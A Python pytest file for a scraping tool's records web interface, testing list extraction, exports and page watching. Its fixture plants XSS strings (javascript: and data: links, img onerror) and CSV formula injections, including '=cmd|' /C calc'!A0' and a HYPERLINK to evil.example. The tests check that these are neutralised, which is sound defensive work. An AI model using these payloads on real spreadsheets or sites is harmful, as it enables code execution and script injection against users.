"""Lists of pages as grids: looked at, saved and watched, whatever stands in them."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pyarrow.parquet
import pytest
from tests.sites.replay import ListPage, Replay, ReplayClock, ReplayList
from tests.sites.replay_serve import ReplayThread, serve_replay
from tests.web.asking import ask, bearer
from tests.web.conftest import NARROW, WIDE, Look, demo_pages, make_state

from scythe.archive.open import open_archive
from scythe.archive.results import PageQuery
from scythe.archive.retrieval import read_records
from scythe.archive.watches import watch_rows
from scythe.errors import BadInput
from scythe.fetch.inputs import LoadedPage
from scythe.watching.watch import Watch
from scythe.watching.watch_options import ListOptions, WatchOptions
from scythe.web.records.records import (
    RecordsWanted,
    WatchWanted,
    end_watch,
    export_list,
    find_listing,
    list_records,
    list_watches,
    show_records,
    watch_page,
)
from scythe.web.server import Serving
from scythe.web.state import NotThere, State

START = 1_660_000_000.0
HOSTILE_URL = "https://shop.example/list?q=%22%3E%3Cscript%3E"


def hostile_page() -> LoadedPage:
    """A list whose cells would like to be formulas, scripts and links that act."""
    rows = "".join(
        f"""<li class="item"><a href="{link}"><img src="/i/{n}.png" alt=""></a>
        <h3><a href="{link}">{title} {n}</a></h3><span class="price">${n}.50</span>
        <p>=HYPERLINK("https://evil.example/?x={n}","{"click here and wait " * 14}")</p></li>"""
        for n, (link, title) in enumerate(
            [
                ("javascript:document.title='gone'", "=cmd|' /C calc'!A0"),
                ("data:text/html,<script>alert(1)</script>", "&lt;script&gt;document.title='gone'&lt;/script&gt;"),
                ("/thing/3", "+1+1 of a plain thing with a name"),
                ("https://other.example/thing/4", "&lt;img src=x onerror=alert(1)&gt; thing"),
                ("//third.example/5", "@SUM(1) of something"),
            ],
            1,
        )
    )
    html = f"<title>&lt;b&gt;Things</title><main><h1>Things</h1><ul>{rows}</ul></main>"
    return LoadedPage("hostile", html.encode(), HOSTILE_URL, "text/html; charset=utf-8")


@pytest.fixture(scope="module")
def site() -> Iterator[ReplayThread]:
    """A news site that shows two lists on one page, at a moment that does not pass."""
    shelves = (
        ReplayList("news", "News", tuple(START + 1_800.0 * n for n in range(-400, 800)), 24),
        ReplayList("wire", "From the wire", tuple(START + 60 + 900.0 * n for n in range(-800, 1_600)), 16),
    )
    replay = Replay(ReplayClock(START, speed=0.0), shelves, (ListPage("/news/", ("news", "wire")),))
    with serve_replay(replay) as served:
        yield served


@pytest.fixture
def state(tmp_path: Path) -> State:
    """A state with a hostile page, some honest ones and an empty archive."""
    return make_state(tmp_path, [hostile_page(), *demo_pages(6)], archive=str(tmp_path / "archive.db"))


def run_once(archive: str) -> None:
    """Make the visits that are due, as `scythe watch --once` does."""

    async def visit() -> None:
        with open_archive(archive) as opened:
            await Watch(opened, WatchOptions(delay=0.0, allow_private=True, once=True)).run()

    thread = threading.Thread(target=lambda: asyncio.run(visit()))
    thread.start()
    thread.join()


def archived_links(archive: str) -> set[str]:
    with open_archive(archive, create=False) as opened:
        return {str(record.links[0]) for record in read_records(opened, PageQuery())}


def stories_of(site: ReplayThread, shelf: str) -> set[str]:
    """Return the addresses of all that a list of the site ever showed."""
    one = site.replay.shelf(shelf)
    places = range(site.replay.count(one, START + 1.0))
    return {site.bases[0] + site.replay.story(one, place).plan.path for place in places}


# -- in a browser ------------------------------------------------------------------------------------------------------


def test_a_list_is_read_chosen_watched_and_saved(look: Look, state: State, site: ReplayThread) -> None:
    eyes = look("/records")
    tab = eyes.tab
    tab.fill("#take-url", site.url("/news/"))
    tab.click("text=Look at it")
    tab.wait_for_url("**/records?page=*")
    listing = list_records(state, page=int(tab.url.rpartition("=")[2]))
    news, wire = listing.lists
    tab.click(f'nav.lists a[href*="list={wire.number}"]')
    tab.wait_for_selector(f"tbody tr >> nth={len(wire.records) - 1}")
    assert tab.locator("tbody tr td:nth-child(2)").all_inner_texts() == [one.fields[0] for one in wire.records]
    tab.wait_for_selector(f".outline >> nth={len(wire.records) - 1}")
    tab.click('button[aria-label="Show record 5 on the page"]')
    assert tab.inner_text(".outline.lit") == "5"
    with tab.expect_download() as saving:
        tab.click("text=CSV")
    saved = list(csv.reader(Path(saving.value.path()).read_text(encoding="utf-8").splitlines()))
    assert saving.value.suggested_filename.startswith("records-")
    assert [row[0] for row in saved[1:]] == [one.fields[0] for one in wire.records]
    tab.select_option("#delay", label="within 6 hours")
    tab.click("form#watch button[type=submit]")
    tab.wait_for_selector("text=The first visit is due.")
    assert "scythe watch --archive" in tab.inner_text("#state")
    tab.evaluate("scrollTo(0, 0)")
    eyes.shoot("records-watched")
    assert state.options.archive is not None
    run_once(state.options.archive)
    links = archived_links(state.options.archive)
    assert {one.link for one in wire.records} <= links <= stories_of(site, "wire")  # a first visit turns one page
    assert not links & {one.link for one in news.records}
    tab.reload()
    assert tab.inner_text("#state dd") == str(len(links))
    tab.click("text=Watch no longer")
    tab.wait_for_selector("form#watch >> text=Watch")
    assert list_watches(state) == []


@pytest.mark.parametrize(("size", "dark"), [(WIDE, False), (NARROW, True)])
def test_hostile_cells_are_shown_as_text(look: Look, size: tuple[int, int], dark: bool) -> None:
    eyes = look("/records?page=1", size=size, dark=dark)
    tab = eyes.tab
    tab.wait_for_selector(".outline >> nth=4")
    words = tab.inner_text("tbody")
    assert "<script>document.title='gone'</script>" in words
    assert "=cmd|' /C calc'!A0" in words
    addresses = tab.eval_on_selector_all("tbody a", "links => links.map((link) => link.getAttribute('href'))")
    assert addresses == ["https://shop.example/thing/3", "https://other.example/thing/4", "https://third.example/5"]
    assert tab.eval_on_selector_all("tbody a", "links => links.every((one) => one.rel.includes('noopener'))")
    assert tab.title() == "Records · scythe"
    assert eyes.overflow() <= 0
    eyes.shoot("records-hostile")


# -- without one -------------------------------------------------------------------------------------------------------


def page_of(state: State, path: str) -> int:
    return next(page.number for page in state.pages() if page.url is not None and page.url.endswith(path))


def test_a_saved_list_is_what_the_page_shows_in_every_format(state: State) -> None:
    number = page_of(state, "/index.html")
    (one,) = list_records(state, page=number).lists
    titles = [record.fields[0] for record in one.records]
    sent = {
        kind: export_list(state, page=number, format=kind) for kind in ("csv", "jsonl", "json", "parquet", "sqlite")
    }
    assert [row[0] for row in csv.reader(io.StringIO(sent["csv"].body.decode()))][1:] == titles
    assert [json.loads(line)["title"] for line in sent["jsonl"].body.decode().splitlines()] == titles
    assert [row["title"] for row in json.loads(sent["json"].body)] == titles
    assert pyarrow.parquet.read_table(io.BytesIO(sent["parquet"].body))["title"].to_pylist() == titles
    assert {each.file_name for each in sent.values()} == {f"records-{number}-1.{kind}" for kind in sent}


def test_no_cell_of_a_saved_list_is_a_formula(state: State) -> None:
    body = export_list(state, page=1).body.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row if cell]
    assert "'=cmd|' /C calc'!A0 1" in cells
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]


def test_a_saved_list_is_an_attachment_with_a_name_of_ours(serving: Serving) -> None:
    answer = ask(serving, "/records/export?page=1&format=csv", headers=bearer(serving.auth))
    assert answer.status == 200
    assert answer.headers["content-disposition"].startswith('attachment; filename="records-1-1.csv"')
    assert "sandbox" in answer.headers["content-security-policy"]
    wrong = ask(serving, "/records/export?page=1&format=exe", headers=bearer(serving.auth))
    assert wrong.status == 422


def test_menus_are_shown_only_on_request(state: State) -> None:
    number = page_of(state, "/index.html")
    few = list_records(state, page=number).lists
    all_of_them = list_records(state, page=number, everything=True).lists
    assert all(one.is_listed for one in few)
    assert all_of_them[: len(few)] == few
    assert not any(one.is_listed for one in all_of_them[len(few) :])
    shown = show_records(state, RecordsWanted(page=number))
    assert shown["hidden"] == len(all_of_them) - len(few)


def test_every_record_has_its_place_on_the_page(state: State) -> None:
    (one,) = list_records(state, page=page_of(state, "/index.html")).lists
    places = [record.elements for record in one.records]
    assert all(places)
    assert sorted(number for each in places for number in each) == [number for each in places for number in each]


def test_long_lists_are_shown_in_parts(tmp_path: Path) -> None:
    rows = "".join(
        f'<li><a href="/t/{n}"><h3>Thing number {n}</h3></a><p>All that is known of it, {n} words.</p></li>'
        for n in range(250)
    )
    state = make_state(tmp_path, [LoadedPage("long", f"<main><ul>{rows}</ul></main>".encode(), "https://example.org/")])
    parts = [show_records(state, RecordsWanted(page=1, start=start)) for start in (0, 100, 200, 9_000)]
    assert [len(part["rows"]) for part in parts] == [100, 100, 50, 1]
    assert [[says for says, _ in part["turning"]] for part in parts[:3]] == [
        ["Records 101 to 200"],
        ["Records 1 to 100", "Records 201 to 250"],
        ["Records 101 to 200"],
    ]


def test_a_feed_is_a_list_too(tmp_path: Path) -> None:
    feed = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>
    <item><title>First</title><link>https://example.org/1</link></item>
    <item><title>Second</title><link>https://example.org/2</link></item></channel></rss>"""
    state = make_state(tmp_path, [LoadedPage("feed", feed, "https://example.org/feed.xml", "application/rss+xml")])
    (one,) = list_records(state, page=1).lists
    assert [record.link for record in one.records] == ["https://example.org/1", "https://example.org/2"]
    assert one.kind == "feed"


@pytest.mark.parametrize("body", [b"%PDF-1.7 \x00", b"\x89PNG\r\n\x1a\n\x00", b"PK\x03\x04\x00"])
def test_what_is_no_page_has_no_lists(tmp_path: Path, body: bytes) -> None:
    state = make_state(tmp_path, [LoadedPage("file", body, "https://example.org/file")])
    assert list_records(state, page=1).lists == ()


def test_a_list_that_a_page_does_not_have_is_not_there(state: State) -> None:
    with pytest.raises(NotThere, match="page 1 has no list 9"):
        export_list(state, page=1, list=9)
    with pytest.raises(NotThere, match=r"page 1 has \d lists, and no list 9"):
        find_listing(state, 1).see(9)
    with pytest.raises(NotThere, match="there is no page 99"):
        show_records(state, RecordsWanted(page=99))


def test_lists_of_pages_looked_at_long_ago_are_read_again(tmp_path: Path) -> None:
    pages = [LoadedPage(f"{n}", f"<title>{n}</title><p>x".encode(), f"https://a.example/{n}") for n in range(18)]
    listing = partial(find_listing, make_state(tmp_path, pages))
    first = listing(1)
    assert listing(1) is first
    assert [listing(number).title for number in range(1, 19)] == [str(n) for n in range(18)]
    assert listing(1) is not first
    assert listing(1).title == "0"


def test_a_page_without_lists_and_a_state_without_pages_say_so(tmp_path: Path) -> None:
    bare = make_state(tmp_path, [LoadedPage("bare", b"<p>Nothing to see here.</p>", "https://example.org/bare")])
    assert show_records(bare, RecordsWanted())["lists"] == []
    assert show_records(make_state(tmp_path, []), RecordsWanted())["page"] is None
    with pytest.raises(NotThere):
        list_records(bare, page=7)


def test_what_is_chosen_is_kept_with_the_watch(state: State) -> None:
    number = page_of(state, "/index.html")
    seen = watch_page(state, WatchWanted(page=number, lists=(1,), miss=0.05, max_delay_s=300.0, follow=True))
    with state.archive() as archive:
        (row,) = watch_rows(archive)
    options = ListOptions.from_json(row.options)
    assert (seen.places, seen.is_due, seen.follow, seen.miss) == ((1,), True, True, 0.05)
    assert options.regions[0].is_described
    assert options.goals.floor_s == 300.0
    assert [one.url for one in list_watches(state)] == [seen.url]
    assert end_watch(state, url=seen.url) == []
    with pytest.raises(NotThere):
        end_watch(state, url=seen.url)


def test_what_cannot_be_watched_is_refused(state: State, tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="no list 9"):
        watch_page(state, WatchWanted(page=page_of(state, "/index.html"), lists=(9,)))
    with pytest.raises(BadInput, match="without an address"):
        watch_page(state, WatchWanted())
    with pytest.raises(BadInput, match="policy"):
        watch_page(state, WatchWanted(url="https://example.org/", policy="astrology"))
    with pytest.raises(BadInput, match="no archive"):
        watch_page(make_state(tmp_path, []), WatchWanted(url="https://example.org/"))
    assert list_watches(state) == []
    assert list_watches(make_state(tmp_path, [])) == []
